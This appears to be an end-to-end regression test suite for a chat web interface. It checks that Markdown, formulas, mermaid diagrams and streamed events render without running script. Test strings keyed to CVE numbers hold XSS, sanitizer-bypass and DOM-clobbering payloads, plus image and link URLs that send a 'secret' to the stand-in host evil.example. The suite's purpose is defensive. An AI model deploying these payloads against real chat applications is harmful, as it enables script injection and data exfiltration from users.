import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect } from 'vitest'
import { launchBrowser, openPage, type WatchedPage } from '../../e2e/support/browser.ts'
import { answered, ask, lastArticle } from '../../e2e/support/chat-page.ts'
import { questionOf, startScriptedChat, type ScriptedChat } from '../../e2e/support/scripted-chat.ts'
import { testsOf } from '../support/incident.ts'
import { pageIncidents } from './page.incidents.ts'

const incident = testsOf(pageIncidents)

let server: ScriptedChat
let browser: Browser
let watched: WatchedPage
beforeAll(async () => {
  // The model repeats the question: each attack is the text of the reader and of the model.
  server = await startScriptedChat({ reply: questionOf })
  browser = await launchBrowser()
  watched = await openPage(browser, server.url)
})
afterAll(async () => {
  await watched[Symbol.asyncDispose]()
  await browser.close()
  await server[Symbol.asyncDispose]()
})

/** Runs in the page: whatever of the last two messages is not plain text in the elements of Markdown. */
function suspicious(): readonly string[] {
  const found: string[] = 'xss' in globalThis ? ['a script ran'] : []
  const forbidden =
    'script, style, link, meta, base, img, picture, video, audio, iframe, object, embed, form, input, template, svg [href], image, animate, foreignObject, slot'
  for (const part of document.querySelectorAll('article :is(.markdown, .thoughts, .user-bubble)'))
    for (const element of part.querySelectorAll('*')) {
      if (element.matches(forbidden)) found.push(element.outerHTML.slice(0, 120))
      for (const { name, value } of element.attributes)
        if (
          /^on|^(id|name|srcdoc|data-xss)$/.test(name) ||
          (/href|src/.test(name) && !/^(https?|mailto):/.test(value))
        )
          found.push(`${name}=${value}`)
    }
  return found
}

/** Says the text, waits until the model has said it too, and expects that it is only shown. */
async function expectShown(...texts: readonly string[]): Promise<void> {
  const { page, complaints } = watched
  for (const text of texts) {
    await ask(page, text)
    await answered(page)
    expect(await page.evaluate(suspicious), text.slice(0, 100)).toEqual([])
  }
  expect(complaints).toEqual([])
}

describe('text of a model or a reader', () => {
  incident('CVE-2026-44568', () =>
    expectShown(
      '![x](x"onerror="window.xss=1) [a](x"onclick="window.xss=1) [b](javascript:window.xss=1 "t")',
      '`<img src=x onerror=window.xss=1>` <a title="`<img src=x onerror=window.xss=1>`">c</a>',
      '[d]: javascript:window.xss=1\n\n[d] <javascript:window.xss=1> [e](data:text/html,<script>window.xss=1</script>)',
    ),
  )

  incident('CVE-2026-27740', () =>
    expectShown('<script>window.xss=1</script><img src=x onerror="window.xss=1"><svg onload=window.xss=1>Hi'),
  )

  incident('CVE-2024-47875', () =>
    expectShown(
      `${'<div>'.repeat(300)}<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.xss=1>`,
    ),
  )

  incident('CVE-2025-26791', () =>
    expectShown(
      '<math><foo-test><mi><li><table><foo-test><li></li></foo-test>a<a><style>${</style>}<foo-b id="><img src onerror=window.xss=1>">',
    ),
  )

  incident('CVE-2026-23733', () =>
    expectShown(
      '```mermaid\ngraph TD\nA["<img src=x onerror=window.xss=1>"]-->B\nclick A "javascript:window.xss=1"\n```',
    ),
  )

  incident('CVE-2025-59417', () =>
    expectShown(
      '<lobeArtifact identifier="a" type="image/svg+xml" title="t"><svg xmlns="http://www.w3.org/2000/svg"><script>window.xss=1</script></svg></lobeArtifact>',
      '```svg\n<svg onload="window.xss=1"/>\n```\n\n```html\n<script>window.xss=1</script>\n```',
    ),
  )

  incident('CVE-2024-53382', () =>
    expectShown(
      '<img name=currentScript src=x><a id=cookie href=x>y</a><form name=body></form> <b id="root">z</b>',
    ),
  )
})

describe('formulas', () => {
  incident('CVE-2025-23207', () =>
    expectShown(
      '$\\htmlData{xss=1 onclick=window.xss=1}{a}$ and $\\htmlId{root}{b}$ $\\htmlStyle{position:fixed}{c}$',
      '$\\href{javascript:window.xss=1}{d}$ $\\url{javascript:window.xss=1}$ $\\includegraphics{https://evil.example/a.png}$',
    ),
  )

  incident('CVE-2024-28243', async () => {
    const doubling = Array.from({ length: 30 }, () => '\\edef\\a{\\a\\a}').join('')
    await expectShown(`$\\def\\a{x}${doubling}\\a$`, '$\\def\\b{\\b\\b}\\b$')
    await expectShown('The page goes on.')
    expect(await lastArticle(watched.page).textContent()).toContain('The page goes on.')
  })
})

describe('other places', () => {
  incident('CVE-2025-32711', () =>
    expectShown(
      '![a][secret] ![](https://evil.example/?q=secret) ![b](//evil.example/b.png)\n\n[secret]: https://evil.example/?q=secret',
      '<link rel=prefetch href=https://evil.example/><style>@import "https://evil.example/a.css";</style><base href=https://evil.example/>',
      '[![c](https://evil.example/c.svg)](https://evil.example) <https://evil.example/?q=secret> https://evil.example/?q=secret',
    ),
  )

  incident('CVE-2025-64496', async () => {
    const { page, complaints } = watched
    const choice = (content: string) =>
      JSON.stringify({
        id: 'x',
        object: 'chat.completion.chunk',
        created: 1,
        model: 'test',
        choices: [{ index: 0, delta: { content } }],
      })
    const code = { type: 'execute', data: { code: 'window.xss=1' } }
    const events = [
      `data: ${choice('Before')}`,
      `event: execute\ndata: ${JSON.stringify(code)}`,
      `data: ${JSON.stringify({ event: code })}`,
      `data: ${JSON.stringify({ ...JSON.parse(choice(' and after')), script: 'window.xss=1', html: '<img src=x onerror=window.xss=1>' })}`,
      'data: [DONE]',
    ]
    await page.route('**/v1/chat/completions', (route) =>
      route.fulfill({ contentType: 'text/event-stream', body: events.map((each) => `${each}\n\n`).join('') }),
    )
    await ask(page, 'Hello')
    await expect.poll(() => lastArticle(page).textContent()).toContain('Before')
    await answered(page)
    expect(await page.evaluate(suspicious)).toEqual([])
    expect(complaints).toEqual([])
    await page.unroute('**/v1/chat/completions')
  })
})
